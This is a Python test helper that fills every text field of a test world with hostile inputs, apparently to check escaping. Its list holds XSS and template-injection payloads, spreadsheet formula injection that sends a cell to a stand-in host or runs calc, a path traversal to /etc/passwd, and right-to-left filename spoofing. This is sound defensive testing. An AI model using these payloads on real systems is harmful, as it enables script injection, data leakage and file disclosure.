"""Texts that try to be more than text, and a small world that says them wherever it can."""

from __future__ import annotations

import hashlib

from tests.small_world import FURNITURE, TEXT, SmallWorld

HOSTILE = {
    "image": "<img src=x onerror=window.hurt=1>",
    "script-end": "</script><script>window.hurt=1</script>",
    "comment": "<!--<script>window.hurt=1//",
    "attribute": "\"' onmouseover='window.hurt=1' x=\"",
    "braces": "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "block": "{% for x in range(9) %}x{% endfor %}",
    "slot": "{n} {name} %s %(n)s",
    "dollar": "${window.hurt=1}",
    "backtick": "`${window.hurt=1}`\\",
    "link": "javascript:window.hurt=1//https://example.org",
    "right-to-left": "safe \u202egnp.exe\u202d\u2067 of the bank",
    "stray-closers": "\u2069\u2069\u202c\u202e reversed",
    "formula": '=HYPERLINK("https://x.example/?"&A1,"open")',
    "command": " \t@SUM(1+1)*cmd|' /C calc'!A0",
    "full-width": '\u200b\uff1dWEBSERVICE("https://x.example")',
    "path": "../../../etc/passwd\\..\\CON",
    "separators": 'a","b"\r\n"=1+1";c|d\u2028e',
    "long": "long " * 2_000,
}


def say_everywhere(world: SmallWorld, text: str) -> SmallWorld:
    """The world with the text as every name, quote, publisher, title, note and reason in it."""
    world.text = f"{TEXT[:FURNITURE]}Somebody wrote: {text} and left.\n{TEXT[FURNITURE:]}"
    span = {**world.article["furniture"][0], "end": len(world.text)}
    span["start"] += len(world.text) - len(TEXT)
    world.article |= {
        "publisher": text,
        "title": text,
        "published_note": text,
        "sha256": hashlib.sha256(world.text.encode()).hexdigest(),
        "furniture": [span],
    }
    world.references[0] |= {"publisher": text, "title": text, "note": text}
    world.actors[0] |= {"name": text}
    world.actors[0]["names"][0]["value"] = text
    world.nodes[0] |= {"name": text, "label": text, "note": text, "names": {"en": text}}
    world.definition |= {"name": text, "short": text, "aliases": [text]}
    world.definition["routes"][0]["name"] = text
    world.definition["statements"][0] |= {"value": text, "note": text}
    sea = world.leg("sea")
    sea["stated"].append({"article": "gazette", "quote": text, "note": text})
    named = {"accepted_by": text, "mended_by": text, "machine_value": text}
    sea["stated"][-1] |= {
        "grade": "B2",
        "origin": text,
        "review": {**named, "accepted_at": "2025-12-01T12:00:00Z"},
    }
    sea["status"][0] |= {"service": text, "vehicles": text, "direction": text}
    sea["operator"][0] |= {"reason": text, "role": text}
    return world
